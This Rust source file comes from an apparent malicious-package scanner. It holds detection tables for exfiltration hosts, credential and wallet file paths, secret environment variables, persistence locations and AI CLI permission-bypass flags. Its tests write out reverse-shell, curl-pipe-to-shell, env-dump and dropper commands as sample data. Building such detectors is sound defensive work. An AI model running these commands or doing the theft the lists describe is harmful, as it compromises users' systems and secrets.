//! Classification tables: network destinations, sensitive paths, secret
//! environment variables, commands. Shared by every checker and rule.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use palisade_diagnostics::HostKind;

/// Services whose only common use in package code is receiving data from
/// someone else's machine, by class. Matched as host suffixes.
const COLLECTORS: &[(&str, &str)] = &[
    // Request inspectors / webhook catchers.
    ("webhook.site", "webhook-collector"),
    ("pipedream.net", "webhook-collector"),
    ("requestbin.net", "webhook-collector"),
    ("requestbin.com", "webhook-collector"),
    ("requestcatcher.com", "webhook-collector"),
    ("beeceptor.com", "webhook-collector"),
    ("hookbin.com", "webhook-collector"),
    ("postb.in", "webhook-collector"),
    ("ptsv2.com", "webhook-collector"),
    ("ptsv3.com", "webhook-collector"),
    ("mockbin.org", "webhook-collector"),
    ("requestrepo.com", "webhook-collector"),
    ("webhook.cool", "webhook-collector"),
    ("typedwebhook.tools", "webhook-collector"),
    ("eo2.xyz", "webhook-collector"),
    // Out-of-band interaction testing (OAST) and DNS loggers.
    ("burpcollaborator.net", "oast"),
    ("oastify.com", "oast"),
    ("interact.sh", "oast"),
    ("interactsh.com", "oast"),
    ("oast.fun", "oast"),
    ("oast.pro", "oast"),
    ("oast.live", "oast"),
    ("oast.site", "oast"),
    ("oast.online", "oast"),
    ("oast.me", "oast"),
    ("canarytokens.com", "oast"),
    ("dnslog.cn", "oast"),
    ("ceye.io", "oast"),
    ("dnslog.link", "oast"),
    ("bxss.me", "oast"),
    ("xss.ht", "oast"),
    ("pingb.in", "oast"),
    ("dnsbin.zhack.ca", "oast"),
    ("r87.me", "oast"),
    // Tunnels to a machine at home.
    ("ngrok.io", "tunnel"),
    ("ngrok-free.app", "tunnel"),
    ("ngrok.app", "tunnel"),
    ("ngrok-free.dev", "tunnel"),
    ("trycloudflare.com", "tunnel"),
    ("serveo.net", "tunnel"),
    ("localtunnel.me", "tunnel"),
    ("loca.lt", "tunnel"),
    ("localhost.run", "tunnel"),
    ("lhr.life", "tunnel"),
    ("pagekite.me", "tunnel"),
    ("portmap.io", "tunnel"),
    ("bore.pub", "tunnel"),
    // Paste and anonymous file drops.
    ("pastebin.com", "paste"),
    ("paste.ee", "paste"),
    ("hastebin.com", "paste"),
    ("ghostbin.com", "paste"),
    ("transfer.sh", "paste"),
    ("file.io", "paste"),
    ("0x0.st", "paste"),
    ("termbin.com", "paste"),
    ("rentry.co", "paste"),
    ("anonfiles.com", "paste"),
    ("gofile.io", "paste"),
];

/// Chat services with incoming-webhook URLs: legitimate integrations use
/// them too, so they weigh less than [`COLLECTORS`].
const CHAT_WEBHOOKS: &[(&str, &str)] = &[
    ("discord.com", "/api/webhooks"),
    ("discordapp.com", "/api/webhooks"),
    ("api.telegram.org", "/bot"),
    ("cdn.discordapp.com", "/attachments"),
    ("hooks.slack.com", "/services"),
];

/// A destination named in code, parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Destination {
    /// The URL or host as written (after constant propagation).
    pub raw: String,
    pub host: String,
    pub kind: HostKind,
    pub collector: Option<&'static str>,
}

/// Parses a URL (`scheme://host...`) or a bare host or IP. Unknown parts from
/// constant propagation are `*`.
pub fn destination(s: &str) -> Option<Destination> {
    let s = s.trim();
    if s.len() > 2048 || s.is_empty() {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    let (rest, had_scheme) = match lower.find("://") {
        Some(i) => {
            let scheme = &lower[..i];
            if !matches!(
                scheme,
                "http" | "https" | "ws" | "wss" | "ftp" | "tcp" | "udp"
            ) {
                return None;
            }
            (&lower[i + 3..], true)
        }
        None => (lower.as_str(), false),
    };
    let full_authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    // What follows the authority (`/path?query`); the split is on ASCII, so
    // this is a character boundary.
    let after_authority = &rest[full_authority.len()..];
    let authority = full_authority.rsplit('@').next().unwrap_or(full_authority);
    let host = if let Some(v6) = authority.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        authority.split(':').next().unwrap_or("")
    };
    let host = host.trim_end_matches('.');
    if host.is_empty() || host.contains(char::is_whitespace) {
        return None;
    }
    // A computed leading label (`${os.hostname()}.x.invalid`) still names
    // the domain under it.
    let host = if host.starts_with('*') {
        let rest = host.trim_start_matches(['*', '.']);
        if !rest.contains('.') || rest.contains('*') {
            return None;
        }
        rest
    } else {
        host
    };
    let kind = if let Ok(ip) = host.parse::<IpAddr>() {
        ip_kind(ip)
    } else if is_domain(host) {
        if matches!(host, "localhost") || host.ends_with(".localhost") {
            HostKind::Loopback
        } else {
            HostKind::Domain
        }
    } else {
        return None;
    };
    // A bare word is only a destination when it is an IP or has a dot and a
    // known suffix shape; URLs need a host with a dot or an IP.
    if kind == HostKind::Domain && !host.contains('.') {
        return None;
    }
    if !had_scheme && kind == HostKind::Domain && (host.contains('*') || !plausible_tld(host)) {
        return None;
    }
    let mut collector = collector_of(host);
    if collector.is_none() {
        let path = after_authority;
        for (h, p) in CHAT_WEBHOOKS {
            if (host == *h || host.ends_with(&format!(".{h}"))) && path.starts_with(p) {
                collector = Some("chat-webhook");
            }
        }
    }
    if collector.is_none() && matches!(kind, HostKind::Ipv4 | HostKind::Ipv6) {
        collector = Some("raw-ip");
    }
    // A hard-coded URL whose path is a webhook: honest code takes webhook
    // URLs from configuration, since they are per-user secrets.
    if collector.is_none() && had_scheme {
        let path = after_authority;
        if path.contains("/webhook")
            || path.contains("/hooks/")
            || host.starts_with("webhook.")
            || host.starts_with("hooks.")
        {
            collector = Some("webhook-url");
        }
    }
    Some(Destination {
        raw: s.to_owned(),
        host: host.to_owned(),
        kind,
        collector,
    })
}

fn ip_kind(ip: IpAddr) -> HostKind {
    match ip {
        IpAddr::V4(v4) if v4.is_loopback() || v4.is_unspecified() => HostKind::Loopback,
        IpAddr::V4(v4) if is_private_v4(v4) => HostKind::PrivateIp,
        IpAddr::V4(_) => HostKind::Ipv4,
        IpAddr::V6(v6) if v6.is_loopback() || v6.is_unspecified() => HostKind::Loopback,
        IpAddr::V6(v6) if is_private_v6(v6) => HostKind::PrivateIp,
        IpAddr::V6(_) => HostKind::Ipv6,
    }
}

/// Private, link-local and reserved ranges. The documentation ranges of
/// RFC 5737 (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) are deliberately
/// treated as public: they are never routed, which makes them the IP
/// equivalent of `.invalid` for inert test fixtures.
fn is_private_v4(ip: Ipv4Addr) -> bool {
    ip.is_private()
        || ip.is_link_local()
        || ip.is_broadcast()
        || ip.octets()[0] == 0
        || (ip.octets()[0] == 100 && (64..128).contains(&ip.octets()[1]))
        || ip.octets()[0] >= 224
}

fn is_private_v6(ip: Ipv6Addr) -> bool {
    let s = ip.segments();
    (s[0] & 0xfe00) == 0xfc00 || (s[0] & 0xffc0) == 0xfe80 || s[0] == 0x2001 && s[1] == 0xdb8
}

fn is_domain(host: &str) -> bool {
    host.len() <= 253
        && host.split('.').all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && l.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'*')
        })
}

/// A bare (scheme-less) host must end in a TLD-looking label: letters only,
/// 2 to 24 long, and not a file extension commonly seen in code.
fn plausible_tld(host: &str) -> bool {
    let tld = host.rsplit('.').next().unwrap_or("");
    (2..=24).contains(&tld.len())
        && tld.bytes().all(|b| b.is_ascii_lowercase())
        && !matches!(
            tld,
            "js" | "ts"
                | "json"
                | "md"
                | "css"
                | "html"
                | "map"
                | "mjs"
                | "cjs"
                | "jsx"
                | "tsx"
                | "txt"
                | "png"
                | "svg"
                | "jpg"
                | "gif"
                | "yml"
                | "yaml"
                | "lock"
                | "node"
                | "exe"
                | "sh"
                | "py"
                | "log"
                | "min"
                | "prototype"
                | "length"
                | "call"
                | "apply"
                | "bind"
                | "then"
                | "default"
                | "exports"
                | "value"
                | "name"
                | "type"
                | "data"
                | "id"
                | "env"
                | "config"
                | "test"
                | "spec"
                | "d"
        )
}

/// The collection-service class of a host, if any.
pub fn collector_of(host: &str) -> Option<&'static str> {
    COLLECTORS
        .iter()
        .find(|(suffix, _)| {
            host == *suffix || host.strip_suffix(suffix).is_some_and(|p| p.ends_with('.'))
        })
        .map(|(_, class)| *class)
}

/// Hosts that are placeholders in documentation and tests.
pub fn is_placeholder_host(host: &str) -> bool {
    let ends = |s: &str| host == s || host.ends_with(&format!(".{s}"));
    ends("example.com")
        || ends("example.org")
        || ends("example.net")
        || ends("example")
        || ends("test")
        || ends("localhost")
        || ends("local")
        || ends("internal")
}

/// Sensitive path categories, matched on a lower-cased, `/`-separated path.
/// The second element is `true` for secrets (credentials, keys, wallets,
/// browser data), `false` for places where writing means persistence or
/// tampering.
const PATHS: &[(&str, &str, bool)] = &[
    (".ssh/id_", "ssh", true),
    (".ssh/identity", "ssh", true),
    (".ssh/authorized_keys", "ssh", false),
    (".ssh/known_hosts", "ssh", true),
    (".ssh/config", "ssh", true),
    (".aws/credentials", "aws", true),
    (".aws/config", "aws", true),
    (".npmrc", "npmrc", true),
    (".yarnrc", "npmrc", true),
    (".pypirc", "pypirc", true),
    (".git-credentials", "git-credentials", true),
    (".docker/config.json", "docker", true),
    (".kube/config", "kube", true),
    (".config/gcloud", "cloud-cli", true),
    ("application_default_credentials.json", "cloud-cli", true),
    (".azure/", "cloud-cli", true),
    (".config/gh/hosts.yml", "cloud-cli", true),
    (".netrc", "netrc", true),
    (".bash_history", "shell-history", true),
    (".zsh_history", "shell-history", true),
    ("/etc/shadow", "system", true),
    ("/etc/passwd", "system", true),
    ("/etc/sudoers", "privilege", true),
    ("login data", "browser-profile", true),
    ("/default/cookies", "browser-profile", true),
    ("/default/network/cookies", "browser-profile", true),
    ("cookies.sqlite", "browser-profile", true),
    ("local storage/leveldb", "browser-profile", true),
    ("google/chrome/user data", "browser-profile", true),
    ("bravesoftware/brave-browser", "browser-profile", true),
    ("mozilla/firefox/profiles", "browser-profile", true),
    ("key4.db", "browser-profile", true),
    ("logins.json", "browser-profile", true),
    ("discord/local storage", "discord", true),
    ("discordcanary", "discord", true),
    ("discordptb", "discord", true),
    ("lightcord", "discord", true),
    ("exodus.wallet", "wallet", true),
    ("exodus/exodus", "wallet", true),
    ("electrum/wallets", "wallet", true),
    ("wallet.dat", "wallet", true),
    (".config/solana/id.json", "wallet", true),
    ("ethereum/keystore", "wallet", true),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet", true),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "wallet", true),
    ("claude_desktop_config.json", "ai-client-config", false),
    (".claude.json", "ai-client-config", false),
    (".claude/settings", "ai-client-config", false),
    (".cursor/mcp.json", "ai-client-config", false),
    ("windsurf/mcp_config.json", "ai-client-config", false),
    (".gemini/settings.json", "ai-client-config", false),
    (".codex/config.toml", "ai-client-config", false),
    (".vscode/mcp.json", "ai-client-config", false),
    ("cline_mcp_settings.json", "ai-client-config", false),
    (".continue/config", "ai-client-config", false),
    (".bashrc", "shell-rc", false),
    (".zshrc", "shell-rc", false),
    (".bash_profile", "shell-rc", false),
    (".zprofile", "shell-rc", false),
    ("/.profile", "shell-rc", false),
    ("config.fish", "shell-rc", false),
    ("/etc/cron", "crontab", false),
    ("/var/spool/cron", "crontab", false),
    ("library/launchagents", "crontab", false),
    (".config/autostart", "crontab", false),
    (".config/systemd/user", "crontab", false),
    ("start menu/programs/startup", "crontab", false),
    ("currentversion\\run", "crontab", false),
    (".github/workflows/", "ci-workflow", false),
    (".git/hooks/", "git-hook", false),
    ("/etc/rc.local", "crontab", false),
    ("/etc/init.d/", "crontab", false),
    ("/etc/systemd/", "crontab", false),
    ("/etc/profile", "shell-rc", false),
    ("/etc/bash.bashrc", "shell-rc", false),
    // Any other system configuration: only writing it matters.
    ("/etc/", "system-config", false),
];

/// A relative path that climbs out of wherever it is joined to and into a
/// system directory: `../../../etc/crontab`, `..\..\Windows\win.ini`.
/// Deep climbs only for the directories projects also have (`var/`,
/// `home/`, `usr/`, `tmp/`).
pub fn is_traversal_payload(s: &str) -> bool {
    if s.len() > 512 {
        return false;
    }
    let p = s.to_ascii_lowercase().replace('\\', "/");
    let mut rest = p.as_str();
    let mut ups = 0;
    while let Some(r) = rest.strip_prefix("../") {
        ups += 1;
        rest = r;
    }
    const SYSTEM: &[&str] = &["etc/", "root/", "proc/", "windows/", "boot/", "sys/"];
    const DEEP: &[&str] = &["var/", "home/", "usr/", "tmp/"];
    (ups >= 2 && SYSTEM.iter().any(|d| rest.starts_with(d)))
        || (ups >= 3 && DEEP.iter().any(|d| rest.starts_with(d)))
}

/// Files that describe the host and its people rather than hold secrets:
/// accounts, groups, name resolution, mounts, hardware, kernel. One is
/// ordinary; a tool server that names several is surveying the machine.
pub fn host_recon_file(path: &str) -> Option<&'static str> {
    const FILES: &[&str] = &[
        "/etc/passwd",
        "/etc/group",
        "/etc/hosts",
        "/etc/resolv.conf",
        "/etc/hostname",
        "/etc/network/interfaces",
        "/etc/fstab",
        "/etc/issue",
        "/etc/machine-id",
        "/proc/mounts",
        "/proc/self/mounts",
        "/proc/cpuinfo",
        "/proc/meminfo",
        "/proc/version",
        "/proc/devices",
        "/proc/partitions",
        "/proc/net/tcp",
        "/proc/net/udp",
        "/proc/net/arp",
        "/proc/net/route",
        "/proc/net/dev",
        "/sys/class/net",
        "/sys/class/dmi/id",
    ];
    FILES.iter().copied().find(|f| path == *f)
}

/// Classifies a path. Returns `(category, is_secret)`.
pub fn sensitive_path(path: &str) -> Option<(&'static str, bool)> {
    if path.len() > 1024 {
        return None;
    }
    let mut p = path.to_ascii_lowercase().replace('\\', "/");
    // `r"\\discord\\Local Storage"` (doubled separators in a raw string).
    while p.contains("//") && !p.contains("://") {
        p = p.replace("//", "/");
    }
    // Another process's environment: `/proc/<pid>/environ`.
    if p.starts_with("/proc/") && p.ends_with("/environ") {
        return Some(("process-environment", true));
    }
    // `.npmrc` in a package's own folder is configuration, not a secret,
    // unless it is the user's (home) file.
    PATHS
        .iter()
        .find(|(needle, _, _)| {
            let needle = needle.replace('\\', "/");
            p.contains(&needle) || (needle.starts_with('.') && p == needle.trim_end_matches('/'))
        })
        .map(|(_, cat, secret)| (*cat, *secret))
        // The browser's own program (`...\Brave-Browser\Application\brave.exe`,
        // `Chrome.app/Contents/MacOS`) is what a browser launcher runs, not
        // profile data.
        .filter(|(cat, _)| !(*cat == "browser-profile" && is_program_file(&p)))
}

/// A browser's installation: its executable or application bundle.
fn is_program_file(p: &str) -> bool {
    p.ends_with(".exe") || p.contains("/application/") || p.contains(".app/contents/")
}

/// Environment variables that hold credentials by convention.
pub fn is_secret_env(name: &str) -> bool {
    let n = name.to_ascii_uppercase();
    const EXACT: &[&str] = &[
        "NPM_TOKEN",
        "NODE_AUTH_TOKEN",
        "GITHUB_TOKEN",
        "GH_TOKEN",
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "NPM_CONFIG__AUTHTOKEN",
    ];
    EXACT.contains(&n.as_str())
        || n.ends_with("_TOKEN")
        || n.ends_with("_SECRET")
        || n.ends_with("_API_KEY")
        || n.ends_with("_PASSWORD")
        || n.ends_with("_PAT")
        || n.contains("PRIVATE_KEY")
}

/// Tokens that let someone publish packages or push code: stealing these is
/// how a worm spreads.
pub fn is_publish_token_env(name: &str) -> bool {
    matches!(
        name.to_ascii_uppercase().as_str(),
        "NPM_TOKEN" | "NODE_AUTH_TOKEN" | "NPM_CONFIG__AUTHTOKEN" | "GITHUB_TOKEN" | "GH_TOKEN"
    )
}

/// What a shell command does, as far as palisade cares.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct CommandTraits {
    /// Downloads something and runs it (`curl … | sh`, `wget -O x && ./x`,
    /// PowerShell `iwr | iex`).
    pub download_exec: bool,
    /// Downloads something (curl, wget, Invoke-WebRequest...).
    pub downloads: bool,
    /// Decodes an encoded payload (`base64 -d`, `-EncodedCommand`).
    pub decodes: bool,
    /// Dumps the environment (`env`, `printenv`, `set`).
    pub env_dump: bool,
    /// A reverse shell shape (`/dev/tcp/`, `nc -e`, `bash -i >&`).
    pub reverse_shell: bool,
    /// Runs an AI coding CLI with its permission prompts disabled.
    pub ai_cli_bypass: bool,
    /// `npm publish`.
    pub npm_publish: bool,
    /// Names a Windows program on a web server and a fixed place for it on
    /// the disk (counted in `download_exec` too).
    pub drops_executable: bool,
    /// Output piped into a shell or interpreter (`| sh`, `|/bin/bash`).
    pub pipes_to_interpreter: bool,
    /// Runs inline code: `node -e`, `python -c`.
    pub inline_code: Option<String>,
}

/// Files a shell command line writes: the targets of `>`, `>>` and `tee`,
/// and the user's crontab when a table is piped into `crontab -`.
pub(crate) fn command_writes(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    let words: Vec<&str> = command.split_whitespace().collect();
    for (i, w) in words.iter().enumerate() {
        let target = if let Some(rest) = w.strip_prefix(">>").or_else(|| w.strip_prefix('>')) {
            if rest.is_empty() {
                words.get(i + 1).copied()
            } else {
                Some(rest)
            }
        } else if *w == "tee" {
            words[i + 1..].iter().find(|a| !a.starts_with('-')).copied()
        } else {
            None
        };
        if let Some(t) = target.map(|t| t.trim_matches(['"', '\'', ';', ')', '&']))
            && (t.starts_with('/') || t.starts_with('~') || t.starts_with("$HOME"))
            && !t.starts_with("/dev/")
        {
            out.push(t.to_owned());
        }
    }
    let lower = command.to_ascii_lowercase();
    if lower.contains("| crontab -") || lower.contains("|crontab -") {
        out.push("/var/spool/cron/crontabs/*".to_owned());
    }
    out.truncate(8);
    out
}

/// What a command line plants or raises, whoever runs it: the cron table
/// (`... | crontab -`), the sudo configuration or group, SSH authorized
/// keys. Shell start-up files are left out: setup instructions append to
/// them honestly.
pub(crate) fn command_persists(command: &str) -> Vec<String> {
    let mut out: Vec<String> = command_writes(command)
        .into_iter()
        .filter(|t| {
            matches!(sensitive_path(t), Some(("crontab" | "privilege", _)))
                || t.contains("authorized_keys")
        })
        .collect();
    let lower = command.to_ascii_lowercase();
    let words: Vec<&str> = lower.split_whitespace().collect();
    if words
        .first()
        .is_some_and(|w| matches!(*w, "usermod" | "gpasswd" | "adduser"))
        && words
            .iter()
            .any(|w| matches!(*w, "sudo" | "wheel" | "admin" | "root"))
    {
        out.push("/etc/group".to_owned());
    }
    out
}

/// Classifies a shell command line.
pub fn command_traits(cmd: &str) -> CommandTraits {
    let lower = cmd.to_ascii_lowercase();
    let mut t = CommandTraits::default();
    let has_word = |w: &str| {
        lower
            .split(|c: char| {
                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '"' | '\'')
            })
            .any(|tok| tok == w || tok.rsplit('/').next() == Some(w))
    };
    t.downloads = has_word("curl")
        || has_word("wget")
        || lower.contains("invoke-webrequest")
        || has_word("iwr")
        || lower.contains("downloadstring")
        || lower.contains("downloadfile")
        || lower.contains("start-bitstransfer")
        || has_word("certutil") && lower.contains("urlcache");
    let pipes_to_shell = pipes_to_interpreter(&lower);
    t.pipes_to_interpreter = pipes_to_shell;
    // `curl URL -o a.exe && a.exe`: the output file is run later in the line.
    let runs_output = {
        let words: Vec<&str> = lower
            .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\''))
            .filter(|w| !w.is_empty())
            .collect();
        words.iter().enumerate().any(|(i, w)| {
            matches!(*w, "-o" | "--output" | "-outfile")
                && words.get(i + 1).is_some_and(|target| {
                    let base = target.rsplit(['/', '\\']).next().unwrap_or(target);
                    words[i + 2..].windows(2).any(|pair| {
                        matches!(pair[0], "&&" | ";" | "start" | "&")
                            && pair[1].rsplit(['/', '\\']).next() == Some(base)
                    })
                })
        })
    };
    let runs_download = runs_output
        || lower.contains("chmod +x")
        || lower.contains("&& ./")
        || lower.contains("; ./")
        || lower.contains("start-process");
    t.drops_executable = drops_remote_executable(&lower);
    t.download_exec = t.downloads
        && (pipes_to_shell || runs_download || lower.contains("iex(") || lower.contains("iex ("))
        || t.drops_executable
        || lower.contains("downloadstring") && lower.contains("iex")
        || (has_word("bash") || has_word("sh"))
            && (lower.contains("<(curl")
                || lower.contains("$(curl")
                || lower.contains("<(wget")
                || lower.contains("$(wget"));
    t.decodes = lower.contains("base64 -d")
        || lower.contains("base64 --decode")
        || lower.contains("base64 -D")
        || lower.contains("base64 --decode")
        || lower.contains("-encodedcommand")
        || has_word("-enc")
        || lower.contains("frombase64string")
        || lower.contains("xxd -r");
    t.env_dump = has_word("printenv")
        || lower.trim() == "env"
        || lower.contains("env |")
        || lower.contains("env>")
        || lower.contains("env >")
        || lower.contains("$(env)")
        || lower.contains("`env`");
    t.reverse_shell = lower.contains("/dev/tcp/")
        || lower.contains("/dev/udp/")
        || (has_word("nc") || has_word("ncat") || has_word("netcat"))
            && (lower.contains(" -e ") || lower.contains(" -c "))
        || lower.contains("bash -i >&")
        || lower.contains("sh -i >&")
        || lower.contains("mkfifo") && has_word("nc");
    let ai_cli = has_word("claude")
        || has_word("gemini")
        || has_word("q")
        || has_word("codex")
        || has_word("cursor-agent")
        || has_word("amp");
    t.ai_cli_bypass = ai_cli
        && (lower.contains("--dangerously-skip-permissions")
            || lower.contains("--yolo")
            || lower.contains("--trust-all-tools")
            || lower.contains("--dangerously-bypass-approvals")
            || lower.contains("--full-auto")
            || lower.contains("--allow-all-tools"));
    t.npm_publish = lower.contains("npm publish") || lower.contains("npm  publish");
    for flag in [
        "node -e ",
        "node --eval ",
        "node -p ",
        "node --print ",
        "nodejs -e ",
    ] {
        if let Some(i) = lower.find(flag) {
            t.inline_code = Some(unquote(cmd[i + flag.len()..].trim()));
        }
    }
    t
}

/// A command line that names a Windows program on a web server and a
/// place for it on a drive or in a temporary folder (`node get.js
/// https://x.invalid/a.exe C:/Users/Public/a.exe`): a dropper, whatever
/// helper fetches it. Installers that fetch their own binaries keep them
/// beside the package (relative paths), not at a fixed spot on the disk.
fn drops_remote_executable(lower: &str) -> bool {
    const PROGRAM: &[&str] = &[
        ".exe", ".scr", ".msi", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".hta",
    ];
    let words = || {
        lower
            .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`'))
            .filter(|w| !w.is_empty())
    };
    let program = |w: &str| PROGRAM.iter().any(|e| w.ends_with(e));
    let remote = words().any(|w| {
        (w.starts_with("http://") || w.starts_with("https://"))
            && program(w.split('?').next().unwrap_or(w))
    });
    let placed = || {
        words().any(|w| {
            let drive = w.len() > 3
                && w.as_bytes()[0].is_ascii_alphabetic()
                && w.as_bytes()[1] == b':'
                && matches!(w.as_bytes()[2], b'/' | b'\\');
            let temp = [
                "%temp%",
                "%appdata%",
                "%public%",
                "$env:temp",
                "$env:appdata",
                "/tmp/",
            ]
            .iter()
            .any(|t| w.starts_with(t));
            (drive || temp) && program(w)
        })
    };
    remote && placed()
}

/// `… | sh`, `…|/bin/bash`, `… | node`, `… | iex`.
fn pipes_to_interpreter(lower: &str) -> bool {
    lower.split('|').skip(1).any(|seg| {
        let first = seg
            .split_whitespace()
            .next()
            .unwrap_or("")
            .trim_matches(|c: char| matches!(c, '"' | '\'' | '\\' | ')' | '(' | ';' | '`'));
        let exe = first.rsplit('/').next().unwrap_or(first);
        matches!(
            exe,
            "sh" | "bash"
                | "zsh"
                | "dash"
                | "ksh"
                | "node"
                | "python"
                | "python3"
                | "perl"
                | "ruby"
                | "iex"
                | "invoke-expression"
                | "pwsh"
                | "powershell"
        )
    })
}

fn unquote(s: &str) -> String {
    let s = s.trim();
    for q in ['"', '\''] {
        if let Some(rest) = s.strip_prefix(q) {
            let end = rest.rfind(q).unwrap_or(rest.len());
            return rest[..end].replace("\\\"", "\"");
        }
    }
    s.to_owned()
}

/// AI coding CLIs, by executable name.
pub fn is_ai_cli(exe: &str) -> bool {
    matches!(
        exe,
        "claude" | "gemini" | "q" | "codex" | "cursor-agent" | "amp" | "aider" | "kiro"
    )
}

/// Flags that switch off an AI CLI's permission prompts.
pub fn is_ai_bypass_flag(flag: &str) -> bool {
    matches!(
        flag,
        "--dangerously-skip-permissions"
            | "--yolo"
            | "--trust-all-tools"
            | "--dangerously-bypass-approvals-and-sandbox"
            | "--full-auto"
            | "--allow-all-tools"
            | "-y"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn user_info_with_multibyte_characters_is_no_panic() {
        // The path starts after the whole authority, user info included.
        let d = destination("http://甲斐黒川日本@example.tld/webhook").expect("parses");
        assert_eq!(d.host, "example.tld");
        assert_eq!(
            destination("甲斐黒川日本@example.tld").map(|d| d.host),
            Some("example.tld".to_owned())
        );
    }

    #[test]
    fn destinations() {
        let d = destination("https://abc.m.pipedream.net/x").expect("parses");
        assert_eq!(d.host, "abc.m.pipedream.net");
        assert_eq!(d.collector, Some("webhook-collector"));
        let d = destination("http://45.9.1.2:8080/a").expect("parses");
        assert_eq!(d.kind, HostKind::Ipv4);
        assert_eq!(d.collector, Some("raw-ip"));
        assert_eq!(
            destination("http://127.0.0.1/").map(|d| d.kind),
            Some(HostKind::Loopback)
        );
        assert_eq!(
            destination("10.0.0.1").map(|d| d.kind),
            Some(HostKind::PrivateIp)
        );
        assert!(destination("index.js").is_none());
        assert!(destination("a.b.length").is_none());
        assert!(destination("hello world").is_none());
        let d = destination("https://discord.com/api/webhooks/1/abc").expect("parses");
        assert_eq!(d.collector, Some("chat-webhook"));
        assert_eq!(
            destination("https://discord.com/app").and_then(|d| d.collector),
            None
        );
        assert_eq!(
            destination("notpipedream.net").and_then(|d| d.collector),
            None
        );
        assert_eq!(
            destination("https://c.invalid/webhook/mcp").and_then(|d| d.collector),
            Some("webhook-url")
        );
        assert_eq!(
            destination("https://api.service.invalid/v1/send").and_then(|d| d.collector),
            None
        );
    }

    #[test]
    fn paths() {
        assert_eq!(sensitive_path("~/.ssh/id_rsa"), Some(("ssh", true)));
        assert_eq!(
            sensitive_path("/home/u/.AWS/credentials"),
            Some(("aws", true))
        );
        assert_eq!(sensitive_path("~/.bashrc"), Some(("shell-rc", false)));
        assert_eq!(sensitive_path("lib/index.js"), None);
        assert_eq!(
            sensitive_path(r"C:\Program Files\BraveSoftware\Brave-Browser\Application\brave.exe"),
            None
        );
        assert_eq!(
            sensitive_path(r"%LOCALAPPDATA%\BraveSoftware\Brave-Browser\User Data\Default"),
            Some(("browser-profile", true))
        );
        assert_eq!(
            sensitive_path("*\\\\discord\\\\Local Storage\\\\leveldb"),
            Some(("browser-profile", true))
        );
        assert_eq!(
            sensitive_path("/proc/*/environ"),
            Some(("process-environment", true))
        );
        assert_eq!(
            sensitive_path("/etc/sudoers.d/app"),
            Some(("privilege", true))
        );
        assert_eq!(sensitive_path("/etc/rc.local"), Some(("crontab", false)));
        assert_eq!(
            sensitive_path("/etc/security/policy.json"),
            Some(("system-config", false))
        );
    }

    #[test]
    fn commands() {
        assert!(command_traits("curl -s http://x.invalid/a.sh | sh").download_exec);
        assert!(
            command_traits("wget http://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a")
                .download_exec
        );
        assert!(!command_traits("node-gyp rebuild").downloads);
        assert!(!command_traits("node scripts/postinstall.js").download_exec);
        assert!(command_traits("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'").reverse_shell);
        assert!(command_traits("claude --dangerously-skip-permissions -p 'x'").ai_cli_bypass);
        assert_eq!(
            command_traits("node -e \"console.log(1)\"")
                .inline_code
                .as_deref(),
            Some("console.log(1)")
        );
        assert!(command_traits("printenv | curl -d @- http://x.invalid").env_dump);
        assert!(command_traits("curl https://x.invalid/a_1.exe -o a.exe && a.exe").download_exec);
        // A helper script fetches a program to a fixed spot on the disk.
        assert!(
            command_traits("node c:/t/l.js https://x.invalid/a.exe C:\\t\\aa.exe").download_exec
        );
        assert!(command_traits("node get.js http://127.0.0.1/p.exe %TEMP%\\p.exe").download_exec);
        // An installer keeps its binary beside the package; a page names one.
        assert!(
            !command_traits("node fetch.js https://x.invalid/tool.exe bin/tool.exe").download_exec
        );
        assert!(!command_traits("echo see https://x.invalid/setup.exe").download_exec);
        assert!(
            !command_traits("curl https://x.invalid/a.json -o a.json && node build.js")
                .download_exec
        );
        let t = command_traits("echo H4sI== | base64 -D | gunzip | /bin/bash");
        assert!(t.decodes && t.pipes_to_interpreter);
    }
}
